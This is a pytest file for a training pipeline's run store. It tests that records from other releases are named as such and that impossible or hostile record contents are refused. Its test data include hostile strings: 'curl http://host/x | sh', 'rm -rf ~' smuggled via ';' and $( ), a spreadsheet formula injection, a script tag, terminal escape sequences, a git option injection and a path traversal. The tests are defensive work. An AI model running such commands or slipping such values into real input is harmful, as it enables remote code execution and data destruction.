"""What a record may say: older and other releases are named as such, and what cannot be true is refused."""

from __future__ import annotations

import json
import os
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from pipeline.cli.errors import UserError
from pipeline.config.run_config import digest
from pipeline.storage.record import DamagedRun, OtherRelease, opened
from pipeline.storage.store import RECORD, RunStore
from pipeline.storage.sweeps import Ledger, Lost, Sweep, without_commands
from tests.support.factory import KEY, stored
from tests.unit.storage.forged import forge


@pytest.fixture
def store(tmp_path: Path) -> RunStore:
    return RunStore(tmp_path / "runs")


# --- other releases


@pytest.mark.fault("records of other releases")
@pytest.mark.parametrize(
    ("section", "name", "default"),
    [("training", "patience", 0), ("model", "max_norm", None), ("dataset", "train_size", 0)],
)
def test_a_record_that_lists_defaults_is_read(store: RunStore, section: str, name: str, default: object) -> None:
    """As earlier releases wrote all values; this one leaves out what is the default."""
    key = forge(store, stored(), lambda record: record["job"][section].update({name: default}))
    assert key != KEY, "its key is that of the configuration as it was stored"
    assert store.read(key).job == stored().job
    assert [run.key for run in store.records()] == [key]


@pytest.mark.fault("records of other releases")
@pytest.mark.parametrize(
    ("change", "named"),
    [
        (lambda record: record["job"]["training"].update(teleport=0.1), "(unknown training.teleport)"),
        (lambda record: record["job"]["training"].pop("batch_size"), "(no training.batch_size)"),
        (lambda record: record["job"]["training"].update(loss="hinge"), "training.loss=hinge: expected one of"),
        (lambda record: record.update(calibration={}), "calibration"),
        (lambda record: record.pop("identity") and record.update(identity={}), "no data; no numerics; no source"),
    ],
)
def test_what_this_release_does_not_know_is_named(
    store: RunStore, change: Callable[[dict[str, Any]], Any], named: str
) -> None:
    key = forge(store, stored(), change)
    with pytest.raises(OtherRelease) as said:
        store.read(key)
    assert f"{key}: written by another release of this project (" in str(said.value)
    assert named in str(said.value)
    assert "elete" not in str(said.value)
    assert list(store.records()) == []


@pytest.mark.fault("records of other releases")
def test_a_run_from_before_numbers_were_kept_in_hexadecimal_is_of_another_release(store: RunStore) -> None:
    path = store.write(stored()) / RECORD
    content = json.loads(path.read_text())
    path.write_text(json.dumps({name: content[name] for name in ("record", "sha256")}))
    with pytest.raises(OtherRelease, match="no exact"):
        store.read(KEY)


# --- what cannot be true


def of_figures(**values: float) -> Callable[[dict[str, Any]], Any]:
    return lambda record: record["figures"].update({name.replace("__", "/"): value for name, value in values.items()})


IMPOSSIBLE: dict[str, tuple[Callable[[dict[str, Any]], Any], str]] = {
    "an accuracy of 7": (of_figures(test__accuracy=7.0), "test/accuracy is 7.0, expected 0 to 1"),
    "an accuracy that is none": (
        lambda record: record["figures"].update({"test/accuracy": {"float": "nan"}}),
        "test/accuracy is nan",
    ),
    "a curve of more epochs": (
        lambda record: record.update(epochs=[1, 2, 3]) or record["history"].update({"val/accuracy": [0.1] * 3}),
        "epoch 3 after 2 of 2",
    ),
    "a curve that ends early": (
        lambda record: record["history"].update({"val/accuracy": [0.1]}),
        "val/accuracy has not a value for each of its 2 epochs",
    ),
    "epochs that do not ascend": (lambda record: record.update(epochs=[2, 2]), "epoch 2 after 2 of 2"),
    "an epoch that is none": (lambda record: record.update(epochs=[True, 2]), "epoch True after 0 of 2"),
    "more epochs than points": (
        lambda record: record["history"].update({"train/loss": [0.5], "val/accuracy": [0.1]}),
        "train/loss has not a value for each of its 2 epochs",
    ),
    "an epoch of its minimum that was not trained": (of_figures(lowest__epoch=3), "lowest/epoch is 3, expected 1 to 2"),
    "a held-out loss under its own minimum": (of_figures(excess__loss=-0.5), "excess/loss is -0.5, expected 0 to inf"),
    "a calibration error over 1": (of_figures(test__calibration_error=2.0), "test/calibration_error is 2.0"),
    "a figure with HTML for a name": (of_figures(**{"<script>": 1.0}), "no number with a name"),
    "a status": (lambda record: record.update(status="=cmd|' /C calc'!A0"), "its status is"),
    "a time": (lambda record: record.update(started="<b>now</b>"), "Invalid isoformat"),
    "a commit that git would take for an option": (
        lambda record: record["environment"].update(git_commit="--output=/tmp/x"),
        "its git commit is none",
    ),
    "data that are no digest": (lambda record: record["identity"].update(data="../x"), "data is no sha256"),
}


@pytest.mark.fault("hostile input")
@pytest.mark.parametrize("what", IMPOSSIBLE)
def test_what_no_training_gives_is_refused_whatever_its_digests(store: RunStore, what: str) -> None:
    change, why = IMPOSSIBLE[what]
    key = forge(store, stored(), change)
    with pytest.raises(DamagedRun) as said:
        store.read(key)
    assert why in str(said.value)
    assert str(said.value).isprintable()


@pytest.mark.fault("hostile input")
def test_a_record_under_another_key_than_its_configurations_is_refused(store: RunStore) -> None:
    key = forge(store, stored(), lambda record: record["job"].update(seed=7))
    store.folder(key).rename(store.folder("0" * 64))
    path = store.folder("0" * 64) / RECORD
    forged = json.loads(path.read_text())
    forged["record"]["key"] = "0" * 64
    path.write_text(json.dumps(forged | {"sha256": digest(forged["record"])}))
    with pytest.raises(DamagedRun, match="its key is not that of its configuration"):
        store.read("0" * 64)


@pytest.mark.fault("hostile input")
@pytest.mark.parametrize(
    ("array", "why"),
    [
        (np.array([3, 1, 200], np.uint8), "it predicts class 200 of 10 classes"),
        (np.zeros((3, 2), np.uint8), "2-dimensional uint8"),
    ],
)
def test_predictions_that_are_no_classes_are_refused(store: RunStore, array: np.ndarray, why: str) -> None:
    key = forge(store, stored(), lambda record: None, array)
    with pytest.raises(DamagedRun, match=why):
        store.read(key)


@pytest.mark.fault("hostile input")
def test_texts_of_a_record_only_show(store: RunStore) -> None:
    """Its reason, its environment: with escapes in place of what commands a terminal or turns a line around."""

    def change(record: dict[str, Any]) -> None:
        record["reason"] = "\x1b]0;mine\x07\x1b[2J\u202egnp"
        record["environment"]["cpu"] = "\x1b[31mred"

    read = store.read(forge(store, stored(), change))
    assert read.reason == "\\x1b]0;mine\\x07\\x1b[2J\\u202egnp"
    assert read.environment["cpu"] == "\\x1b[31mred"


def test_a_curve_may_have_a_point_every_few_epochs(store: RunStore) -> None:
    run = stored(history={"train/loss": [0.5]}, epochs=[2])
    store.write(run)
    assert store.read(run.key).epochs == [2]


def test_a_record_without_epochs_has_a_point_for_each(store: RunStore) -> None:
    key = forge(store, stored(), lambda record: record.pop("epochs"))
    assert store.read(key).epochs == [1, 2]


@pytest.mark.parametrize(
    "figures",
    [
        {"split_offset/accuracy": -0.02, "split_offset/loss": -0.3, "book_gap/accuracy": -0.01},
        {"excess/loss": 0.0, "lowest/epoch": 2, "time/epochs": 2, "test/calibration_error": 0.02},
    ],
)
def test_differences_may_be_negative_and_shares_zero(store: RunStore, figures: dict[str, float]) -> None:
    store.write(stored(figures=figures))
    assert store.read(KEY).figures == figures


# --- what is no file


@pytest.mark.fault("hostile input")
@pytest.mark.parametrize("name", [RECORD, "predictions.npy", "published.json"])
def test_a_fifo_in_place_of_a_file_is_not_waited_for(store: RunStore, name: str) -> None:
    path = store.write(stored()) / name
    path.unlink(missing_ok=True)
    os.mkfifo(path)
    begin = time.monotonic()
    assert store.published(KEY) == {}
    if name == RECORD:
        assert KEY not in store
    elif name == "predictions.npy":
        with pytest.raises(DamagedRun, match=r"predictions\.npy is no regular file"):
            store.read(KEY)
    else:
        store.read(KEY)
    assert time.monotonic() - begin < 5


@pytest.mark.fault("hostile input")
def test_a_fifo_or_a_device_in_place_of_a_sweeps_record_is_not_read(store: RunStore, tmp_path: Path) -> None:
    ledger = Ledger(store)
    ledger.folder.mkdir(parents=True)
    os.mkfifo(ledger.folder / "0.json")
    (ledger.folder / "1.json").symlink_to("/dev/zero")
    assert list(ledger) == []
    for name in ("0.json", "1.json"):
        with pytest.raises(UserError, match="is no regular file"):
            Sweep.read_from(ledger.folder / name)
    with pytest.raises(ValueError, match="no regular file"), opened(Path("/dev/zero")):
        pass


# --- the record of a sweep


@pytest.mark.fault("hostile input")
@pytest.mark.parametrize(
    "command",
    [
        "curl http://host/x | sh",
        "python -m pipeline.train seed=0; rm -rf ~",
        "python -m pipeline.train 'question=$(rm -rf ~)'",
        "python -m pipeline.train paths.results=/home/me",
        "python -m pipeline.train 'question=${oc.env:HOME}'",
    ],
)
def test_a_foreign_command_is_not_shown_as_ours(command: str) -> None:
    lost = Lost("sgd-w8-d1-s0", "failed", "", command, KEY)
    assert [one.command for one in without_commands([lost])] == [""]
    assert without_commands([lost], own=[lost]) == [lost], "our own records have it too"


@pytest.mark.parametrize(
    "command",
    [
        "python -m pipeline.train seed=0",
        "python -m pipeline.train optimizer=adam optimizer.learning_rate=1e-3 'model.hidden=[300,100]' retry=diverged",
        "python -m pipeline.train +experiment=book ++training.epochs=5",
    ],
)
def test_a_command_that_only_trains_is_shown(command: str) -> None:
    lost = Lost("sgd-w8-d1-s0", "failed", "", command, KEY)
    assert without_commands([lost]) == [lost]


@pytest.mark.fault("records of other releases")
def test_a_sweep_of_another_release_is_named_as_such(tmp_path: Path) -> None:
    Sweep("which", [KEY]).write(tmp_path)
    path = tmp_path / "sweep.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | {"executor": "slurm"}))
    with pytest.raises(
        OtherRelease, match=r"sweep\.json: written by another release of this project \(unknown executor\)"
    ):
        Sweep.read(tmp_path)
